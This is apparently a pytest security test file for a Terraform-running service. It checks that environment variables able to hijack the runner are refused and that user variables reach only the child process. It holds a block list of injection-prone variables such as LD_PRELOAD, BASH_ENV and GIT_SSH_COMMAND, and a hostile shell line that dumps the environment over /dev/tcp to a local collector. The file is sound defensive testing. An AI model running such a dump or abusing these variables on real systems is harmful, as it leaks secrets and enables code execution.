"""A16: environment variables that would change the runner are refused; no other reaches it."""

from collections.abc import Callable
from pathlib import Path

import pytest

from landform.contract import Category, Variable, is_reserved
from landform.execution.host import Host, make_room
from landform.execution.sandbox import Sandbox
from landform.execution.variables import environment
from landform.kit.errors import InvalidError
from tests.attacks.client import Client
from tests.attacks.loot import Collector
from tests.attacks.test_hostile_plan import hostile
from tests.execution.conftest import TERRAFORM, ensure, plan_job
from tests.faults.platform import Platform

RESERVED = (
    *("PATH", "HOME", "SHELL", "IFS", "ENV", "BASH_ENV", "SHELLOPTS", "BASH_FUNC_ls%%", "PS4"),
    *("LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "GLIBC_TUNABLES"),
    *("TF_CLI_ARGS", "TF_CLI_ARGS_plan", "TF_CLI_CONFIG_FILE", "TF_DATA_DIR", "TF_LOG_PATH"),
    *("TF_PLUGIN_CACHE_DIR", "TF_PLUGIN_CACHE_MAY_BREAK_DEPENDENCY_LOCK_FILE", "TF_WORKSPACE"),
    *("TF_REATTACH_PROVIDERS", "TF_INPUT", "TF_IN_AUTOMATION", "TF_TEMP_LOG_PATH"),
    *("TF_HTTP_ADDRESS", "TF_HTTP_PASSWORD", "TF_CLOUD_ORGANIZATION", "TF_FORCE_LOCAL_BACKEND"),
    *("GIT_SSH_COMMAND", "GIT_SSH", "GIT_ASKPASS", "SSH_ASKPASS", "GIT_EXEC_PATH"),
    *("GIT_PROXY_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_EDITOR", "GIT_PAGER", "GIT_DIR"),
    *("GIT_TEMPLATE_DIR", "GIT_CONFIG", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_PARAMETERS"),
    *("LANDFORM_ENCRYPTION_KEY", "LANDFORM_ANYTHING", "TMPDIR", "CHECKPOINT_DISABLE"),
    *("TFC_RUN_ID", "TFE_RUN_ID", "TFC_WORKSPACE_NAME"),
)
ALLOWED = (
    *("AWS_ACCESS_KEY_ID", "AWS_PROFILE", "ARM_CLIENT_ID", "GOOGLE_CREDENTIALS", "HTTPS_PROXY"),
    *("TF_LOG", "TF_VAR_region", "TF_TOKEN_registry_example_com", "TF_REGISTRY_CLIENT_TIMEOUT"),
    *("GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0", "GIT_SSL_NO_VERIFY"),
    *("TFE_TOKEN", "TFE_HOSTNAME", "VAULT_TOKEN", "EDITION", "PATHS", "HOMEPAGE", "DIGIT_A"),
)


@pytest.mark.parametrize("name", RESERVED)
def test_a_reserved_name_is_refused_by_name_and_by_the_runner(
    client: Client, reserved_workspace: str, name: str, host: Host
) -> None:
    answer = client.try_variable(reserved_workspace, name, "evil", category="env")
    assert answer.status_code == 422
    assert name in answer.text
    job = plan_job(variables=[Variable(key=name, value="evil", category=Category.ENV)])
    room = make_room(host, job, _empty(host), TERRAFORM)
    with pytest.raises(InvalidError, match="reserved"):
        environment(host, room, job, {})


@pytest.mark.parametrize("name", ALLOWED)
def test_what_people_need_is_allowed(name: str) -> None:
    assert not is_reserved(name)


@pytest.fixture(scope="module")
def reserved_workspace(platform: Platform) -> str:
    client = Client(platform.url, platform.token)
    try:
        return client.make_workspace("attacks", "reserved")
    finally:
        client.close()


@pytest.fixture
def host(tmp_path_factory: pytest.TempPathFactory) -> Host:
    return Host(root=tmp_path_factory.mktemp("host"), ensure_tool=ensure, sandbox=Sandbox())


def _empty(host: Host) -> Path:
    path = host.phases / "one"
    path.mkdir(parents=True)
    return path


def test_variables_reach_the_child_and_not_the_worker(
    platform: Platform,
    client: Client,
    workspace: str,
    collector: Collector,
    canary: Callable[[], str],
) -> None:
    secret = canary()
    client.set_variable(workspace, "TOLD", secret, category="env")
    script = f"""
exec 3>/dev/tcp/127.0.0.1/{collector.port}
env >&3
"""
    run = client.start(workspace, client.upload(workspace, hostile(script)), **{"auto-apply": True})
    assert f"TOLD={secret}" in collector.wait()
    client.wait(run, "applied")
    for part in (*platform.servers, *platform.workers):
        assert secret.encode() not in Path(f"/proc/{part.pid}/environ").read_bytes()
